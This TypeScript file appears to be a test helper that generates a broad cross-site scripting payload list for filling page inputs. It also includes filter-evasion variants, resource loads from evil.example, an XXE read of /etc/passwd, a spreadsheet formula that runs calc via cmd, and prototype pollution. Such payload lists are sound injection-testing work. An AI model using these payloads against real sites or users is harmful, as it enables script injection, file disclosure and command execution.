/**
 * 会动的文字: our own list of texts that would run in a page which takes them for more than text: every way out of a place
 * in a page, with every way to run, and the disguises by which filters were once passed.
 */

/** Leaves whatever encloses a text in HTML. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</p>',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</option></select>',
  '</noscript>',
  '</svg>',
] as const;

/** Runs without a click. */
const RUNS = [
  '<script>stung=1</script>',
  '<svg onload=stung=1>',
  '<svg/onload=stung=1>',
  '<img src=x onerror=stung=1>',
  '<img src=x onerror="stung=1">',
  '<details open ontoggle=stung=1>',
  '<body onload=stung=1>',
  '<input autofocus onfocus=stung=1>',
  '<video src=x onerror=stung=1>',
  '<iframe srcdoc="<script>top.stung=1</script>">',
  '<style onload=stung=1></style>',
  '<object data="javascript:stung=1">',
] as const;

const SINGLE = [
  'javascript:stung=1',
  'JaVaScRiPt:stung=1',
  'java\tscript:stung=1',
  'javascript&colon;stung=1',
  '&#106;avascript:stung=1',
  'data:text/html,<script>stung=1</script>',
  'vbscript:stung=1',
  '<a href=javascript:stung=1>看结果</a>',
  '<a href="java&#10;script:stung=1" autofocus>看</a>',
  '[看](javascript:stung=1)',
  '![看](x"onerror="stung=1)',
  '<form action=javascript:stung=1><button>提交',
  '<meta http-equiv=refresh content="0;url=javascript:stung=1">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<img src=https://evil.example/x.png>',
  '<img srcset="https://evil.example/x.png 1x">',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x)">',
  '<p style="position:fixed;inset:0;z-index:9">盖住',
  'red;background:url(javascript:stung=1)',
  'expression(stung=1)',
  '"onmouseover="stung=1',
  "'onmouseover='stung=1",
  '" autofocus onfocus=stung=1 x="',
  '` onerror=stung=1 `',
  'x onerror=stung=1',
  '{{constructor.constructor("stung=1")()}}',
  '{{7*7}}#{stung=1}<%= stung %>',
  '$\u007bstung=1}',
  "');stung=1;//",
  '");stung=1;//',
  '\\");stung=1;//',
  '</script><script>stung=1;//',
  '\\u003cscript\\u003estung=1\\u003c/script\\u003e',
  '%3Cscript%3Estung=1%3C/script%3E',
  '&lt;script&gt;stung=1&lt;/script&gt;',
  '&amp;lt;script&amp;gt;stung=1',
  '<scr<script>ipt>stung=1</scr</script>ipt>',
  '<<script>stung=1//<</script>',
  '<script\n>stung=1</script\n>',
  '<ſcript>stung=1</ſcript>',
  '＜script＞stung=1＜/script＞',
  '‹script›stung=1‹/script›',
  '<ımg src=x onerror=stung=1>',
  '<math><mtext><img src=x onerror=stung=1>',
  '<math><mglyph><style><img src=x onerror=stung=1>',
  '<svg><style><img src=x onerror=stung=1></style>',
  '<svg><a xlink:href=javascript:stung=1><text y=9>看',
  '<svg><animate onbegin=stung=1 attributeName=x>',
  '<svg><foreignObject><body onload=stung=1>',
  '<svg><use href="data:image/svg+xml,<svg onload=stung=1>">',
  '<template><script>stung=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=stung=1>">',
  '<xmp><img src=x onerror=stung=1></xmp>',
  '<!--[if IE]><script>stung=1</script><![endif]-->',
  '<![CDATA[<script>stung=1</script>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>stung=1</script></x>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '\u200f<img src=x onerror=stung=1>\u200e',
  '\ufeff<script>stung=1</script>',
  '\u200b<\u200bscript>stung=1',
  '<img src="x` `<script>stung=1</script>"` `>',
  "=cmd|'/c calc'!A0",
  '@import "x";stung=1',
  'ابجد<img src=x onerror=stung=1>',
  '{"__proto__":{"stung":1}}',
  `${'长'.repeat(180)}<svg onload=stung=1>`,
] as const;

export const SCRIPTS: readonly string[] = [
  ...WAYS_OUT.flatMap((out) => RUNS.map((runs) => out + runs)),
  ...SINGLE,
];

/** Those that fit where people write a name. */
const SHORT: readonly string[] = [
  '<svg onload=stung=1>',
  '<img src=x onerror=stung=1>',
  '"><svg onload=stung=1>',
  "'><svg onload=stung=1>",
  '"onfocus=stung=1 a="',
];

export interface Pen {
  /** As many texts of the list as fit, each on a line of its own, each time the next ones. */
  long(most: number): string;
  /** The same on one line. */
  line(most: number): string;
  /** A name of at most so many signs, each time another. */
  name(most: number): string;
}

/** Writes the list out, one text after the other, until all of it was written, and again. */
export function pen(): Pen {
  const lines = SCRIPTS.filter((text) => !/[\n\t]/.test(text));
  const write = (texts: readonly string[], between: string) => {
    let at = 0;
    return (most: number): string => {
      const parts: string[] = [];
      let size = 0;
      for (let tried = 0; tried < texts.length && size < most; tried += 1) {
        const next = texts[at % texts.length] ?? '';
        if (size + next.length + 1 > most) {
          if (parts.length > 0) break;
        } else {
          parts.push(next);
          size += next.length + 1;
        }
        at += 1;
      }
      return parts.join(between);
    };
  };
  let named = 0;
  return {
    long: write(SCRIPTS, '\n'),
    line: write(lines, ' '),
    name: (most) => {
      const fits = SHORT.filter((text) => text.length <= most - 3);
      named += 1;
      return `${fits[named % fits.length] ?? '<b>'}${named}`;
    },
  };
}
